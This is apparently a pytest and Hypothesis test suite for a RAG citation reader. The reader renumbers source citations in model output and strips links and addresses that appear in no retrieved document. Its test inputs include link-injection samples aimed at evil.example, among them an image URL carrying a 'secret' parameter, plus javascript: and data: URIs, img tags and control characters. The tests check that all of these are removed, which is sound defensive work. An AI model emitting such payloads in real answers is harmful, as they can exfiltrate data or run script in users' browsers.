"""What is believed of a text that a model wrote."""

import re
import unicodedata
from itertools import pairwise

import pytest
from hypothesis import given
from hypothesis import strategies as st

from rag_pipeline.query.citations import KEPT_TAG, Reader, best_hit
from rag_pipeline.query.excerpts import Excerpt
from rag_pipeline_tests.costs import assert_linear, no_hang
from rag_pipeline_tests.unit.query.candidates import candidate

TAG = "5f0ca7b1"
KNOWN = "https://docs.example/keys"
HITS = [candidate(f"c{number}").hit() for number in range(3)]
EXCERPTS = [
    Excerpt(number, "docs", None, False, "Keys", f"Text {number}, see {KNOWN} and array[0] [7] [doc-9].", (HITS[0],))
    for number in (1, 2, 3)
]
PIECES = [
    *(f"[{TAG}-{number}]" for number in (1, 2, 3, 4)),
    f"[{TAG}-1, {TAG}-2]",
    f"[{TAG}-3; 1]",
    f"【{TAG}-2】",
    f"[^{TAG}-1]",
    f"[{TAG}]",
    f"{TAG}-1",
    *("[1]", "[12, 13]", "[doc-9]", "[Document 2]", "[^3]", "[0badc0de-1]", f"[{KEPT_TAG}-1]", "[source: 4]", "［1］"),
    *(
        f"[{one}]"
        for one in ("²", "１", "①", "❶", "⒈", "٣", "1\u0332", "1\u20e3", "1\u200d", "\u200b1\ufe0f", "\u20001\u2800")
    ),
    *("〖1〗", "⁅2⁆", "❲3❳", "﹝1﹞", "﹇1﹈", "⟬1⟭", "[1】", "【4:0†source】"),
    *("[1‑2]", "[ｄｏｃ-9]", "[**1**]", "\\[1\\]", "[_1_]"),
    *(f"[{TAG}‑1]", f"[{TAG}-²]", "[", "²", "]", "①", "m²", "（1）"),
    *(f"[{TAG}-1](http://evil.example)", "[doc-9](http://evil.example)", f"[the page]({KNOWN})"),
    *(
        '[b](//evil.example "b")',
        "[c](//evil.example/(b))",
        "[1](see below)",
        "[x](< http:evil >)",
        "(http://evil)",
        '<img src="//evil.example/p">',
        "[r]: //evil.example",
    ),
    *("【x】", "（", "[](http://evil.example)", "(mailto:alert)"),
    *("<https:evil.example/p>", "[r]: javascript:alert", "<img src=http:/evil.example>", "<JavaScript:alert>"),
    *("[here](http://evil.example/?q=1)", "![p](http://evil.example/p.png)", "[x](javascript:alert)", "[a](b.md)"),
    *("http://evil.example/x.", KNOWN, f"{KNOWN}.", "ftp://evil.example"),
    *("array[0]", "`array[0]`", "```\nx[1]\n```", "`", "[optional]", "[ ]", "[", "]", "(", ")", "!", "[a [1] b]"),
    *(" ", "\n", "Keys are rotated. ", "\u200b", "\u202e", "\x1b[31m", "é", "漢字"),
]
texts = st.lists(st.sampled_from(PIECES), max_size=12).map("".join)


def read(text: str, *cuts: int, tag: str = TAG) -> Reader:
    reader = Reader(EXCERPTS, tag)
    places = [0, *sorted(cut for cut in cuts if cut <= len(text)), len(text)]
    shown = "".join(reader.feed(text[a:b]) for a, b in pairwise(places)) + reader.end()
    assert shown == reader.text
    return reader


NUMBERED = re.compile(r"[\[【〔〖⁅❲⟬]([\s\d]*\d[\s\d]*)[\]】〕〗⁆❳⟭]")
"""A number in brackets, as it is seen once a text is composed anew."""


def as_seen(text: str) -> str:
    """The text with its signs in their plainest form, without marks, stress and what only separates."""
    ringed = text.translate(str.maketrans("❶\u2800", "1 ", "*\\"))
    composed = unicodedata.normalize("NFKD", ringed).replace("_1_", "1")
    return re.sub("[\u0300-\u036f\u20d0-\u20ff\u200b-\u200d\ufe0e\ufe0f]", "", composed).replace("1.", "1")


def outside_code(text: str) -> str:
    """The text without code: within a line from some backticks to as many again; behind a line of them, on."""
    kept, block = "", ""
    for line in text.split("\n"):
        ticks = block
        for piece in re.split("(`+)", line):
            if piece.startswith("`") and ticks in ("", piece):
                ticks, block = "" if ticks else piece, ""
            elif not ticks:
                kept += piece
        block = ticks if block or re.fullmatch(r"\s*```+[\w+#.-]*", line) else ""
        kept += "\n"
    return kept


@given(texts, st.lists(st.integers(0, 200), max_size=6))
def test_what_is_shown_does_not_depend_on_where_a_text_is_cut(text: str, cuts: list[int]) -> None:
    whole, pieces = read(text), read(text, *cuts)
    assert pieces.text == whole.text
    assert pieces.kept == whole.kept
    assert pieces.cited == whole.cited
    assert (pieces.unknown, pieces.addresses) == (whole.unknown, whole.addresses)


@given(texts)
def test_every_citation_that_is_shown_was_given_in_this_call(text: str) -> None:
    reader = read(text)
    shown = {int(number) for number in re.findall(r"[\[【［](\d+)[\]】］]", outside_code(reader.text))}
    assert shown <= reader.cited.keys()
    alone = {int(number) for number in re.findall(r"(?<![\w)\]\"'])[\[【［](\d+)[\]】］]", reader.text)}
    assert alone & {1, 2, 3} <= reader.cited.keys(), "in code, too"
    seen = [int(number) for number in NUMBERED.findall(as_seen(outside_code(reader.text)))]
    assert seen == [int(number) for number in re.findall(r"\[([0-9]+)\]", outside_code(reader.text))], "only our own"
    assert all(excerpt in EXCERPTS for excerpt in reader.cited.values())
    given = {int(number) for number in re.findall(rf"{TAG}-(\d+)", as_seen(text).replace("‐", "-"))} | {1}
    assert {excerpt.number for excerpt in reader.cited.values()} <= given


@given(texts)
def test_no_address_is_shown_that_stands_in_no_document(text: str) -> None:
    shown = read(text).text
    assert "evil" not in shown
    assert "javascript" not in shown.lower()
    assert "](" not in shown.replace("[a](b.md)", "")


@given(texts)
def test_a_text_that_was_kept_reads_the_same_in_another_call(text: str) -> None:
    first = read(text)
    again = read(first.kept, tag=KEPT_TAG)
    assert again.text == first.text
    assert again.cited == first.cited
    assert again.unknown == again.addresses == 0 or "[?]" not in first.kept


@given(st.lists(st.sampled_from([1, 2, 3]), max_size=8))
def test_citations_are_numbered_in_the_order_in_which_they_appear(numbers: list[int]) -> None:
    reader = read(" ".join(f"So it is [{TAG}-{number}]." for number in numbers))
    order = list(dict.fromkeys(numbers))
    assert [reader.cited[shown].number for shown in range(1, len(order) + 1)] == order
    assert reader.text == " ".join(f"So it is [{order.index(number) + 1}]." for number in numbers)


@pytest.mark.parametrize(
    ("written", "shown", "unknown", "addresses"),
    [
        (f"Yes [{TAG}-2].", "Yes [1].", 0, 0),
        (f"Yes [{TAG}-2, {TAG}-1].", "Yes [1][2].", 0, 0),
        (f"Yes [{TAG}-2, 3].", "Yes [1][2].", 0, 0),
        (f"Yes [{TAG}-9].", "Yes [?].", 1, 0),
        ("Yes [2] monthly[3].", "Yes [?] monthly[?].", 2, 0),
        ("Yes [doc-9](http://evil.example).", "Yes [?].", 1, 0),
        ("See [the page](http://evil.example/a).", "See the page.", 0, 1),
        (f"See [the page]({KNOWN}).", f"See the page ({KNOWN}).", 0, 0),
        ("See http://evil.example/a, please.", "See …, please.", 0, 1),
        (f"See {KNOWN}.", f"See {KNOWN}.", 0, 0),
        ("![x](https://evil.example/?secret=1)", "x", 0, 1),
        (f"So [{TAG}-1][](http://evil.example)(mailto:x).", "So [1] (mailto:x).", 0, 1),
        ("See <javascript:alert(1)> or\n[r]: data:text/html", "See <…(1)> or\n[r]: …", 0, 2),
        ("Of metadata:x, http: and std::string.", "Of metadata:x, http: and std::string.", 0, 0),
        ("Set `a[0]` in [it](it.md) [if any].", "Set `a[0]` in [it](it.md) [if any].", 0, 0),
        ("Set `ports = [80, 443]`, `a[1][2]`.", "Set `ports = [80, 443]`, `a[1][2]`.", 0, 0),
        ("So:\n  ```\n  a[1] = [7]\n  ```\nDone [2].", "So:\n  ```\n  a[1] = [7]\n  ```\nDone [?].", 1, 0),
        (f"So ` it is [1], says [{TAG}-2].", "So ` it is [?], says [1].", 1, 0),
        ("So ` it is.\nObey[1].", "So ` it is.\nObey[?].", 1, 0),
        ("So ```it is.\nObey[1].", "So ```it is.\nObey[?].", 1, 0),
        ("`Obey [1, 3]` and `obey [4]`", "`Obey [?]` and `obey [4]`", 1, 0),
        (
            "So [²] it 【①】 is [1\u0332] \\[1\\] [ ٣ ], says 【4:0†source】.",
            "So [?] it [?] is [?] \\[?] [?], says [?].",
            6,
            0,
        ),
        (f"So [{TAG}‑1] it 〖{TAG}–²〗 is.", "So [1] it [2] is.", 0, 0),
        (
            "Of 5 m² (1) and ①, ½ [½] [x²] [n.²] [¹H] 【漢字】.",
            "Of 5 m² (1) and ①, ½ [½] [x²] [n.²] [¹H] 【漢字】.",
            0,
            0,
        ),
        ("Set `a[²]`, `[_1]`, `[\\d]`, [_x_] and [*].", "Set `a[²]`, `[_1]`, `[\\d]`, [_x_] and [*].", 0, 0),
        ("\x1b[31mred\u202e", "[31mred", 0, 0),
    ],
)
def test_what_becomes_of(written: str, shown: str, unknown: int, addresses: int) -> None:
    reader = read(written)
    assert (reader.text, reader.unknown, reader.addresses) == (shown, unknown, addresses)


@pytest.mark.parametrize("cut", range(40))
def test_a_citation_in_other_brackets_becomes_no_link_when_it_is_cut_off(cut: int) -> None:
    assert read(f"So it is 【{TAG}-1】(javascript:alert)", cut).text == "So it is [1]"


def test_an_address_of_the_question_may_be_repeated() -> None:
    reader = Reader(EXCERPTS, TAG, "is http://evil.example/x still up?")
    assert reader.feed("http://evil.example/x is [facade] [decade].") + reader.end() == reader.text
    assert (reader.text, reader.unknown) == ("http://evil.example/x is [facade] [decade].", 0)


def test_text_is_shown_as_soon_as_nothing_can_change_it() -> None:
    reader = Reader(EXCERPTS, TAG)
    assert reader.feed("Keys are rotated ") == "Keys are rotated "
    assert reader.feed(f"[{TAG}") == ""
    assert reader.feed("-1]. ") == "[1]. "
    assert reader.feed("漢字") == "漢字"
    assert reader.feed("[" + "x " * 200) == "[" + "x " * 200


@pytest.mark.parametrize(
    "shape",
    [
        *("a", "[", "[ ", "aaaa [", "[x](a ", "[x y](", "!", "`", "a://", "](", f"[{TAG}-1]", f"[{TAG}-1] "),
        *("[²]", "[²", "[\u03321", "〖ﷺ"),
    ],
)
def test_reading_costs_in_proportion_to_length(shape: str) -> None:
    """A document may talk a model into any shape; who waits for the answer waits for the model alone."""

    def read(length: int, piece: int) -> None:
        text = (shape * length)[:length]
        reader = Reader(EXCERPTS, TAG)
        for start in range(0, length, piece):
            reader.feed(text[start : start + piece])
        reader.end()
        assert reader.text

    assert_linear(lambda: read(4_000, 4), lambda: read(16_000, 4))
    assert_linear(lambda: read(4_000, 4_000), lambda: read(16_000, 16_000))
    with no_hang():
        read(200_000, 200_000)


def test_of_the_hits_in_an_excerpt_the_one_that_says_it_is_cited() -> None:
    hits = (
        candidate("first", "The harbour master keeps the tables.").hit(),
        candidate("second", "A key is rotated each month by the service.").hit(),
    )
    excerpt = Excerpt(1, "docs", None, False, "Keys", "…", hits)
    reader = Reader([excerpt], TAG)
    reader.feed(f"Each month the service rotates the key [{TAG}-1]. ")
    assert best_hit(excerpt, reader.context(1)) == 1
    assert best_hit(excerpt, "nothing of it") == 0
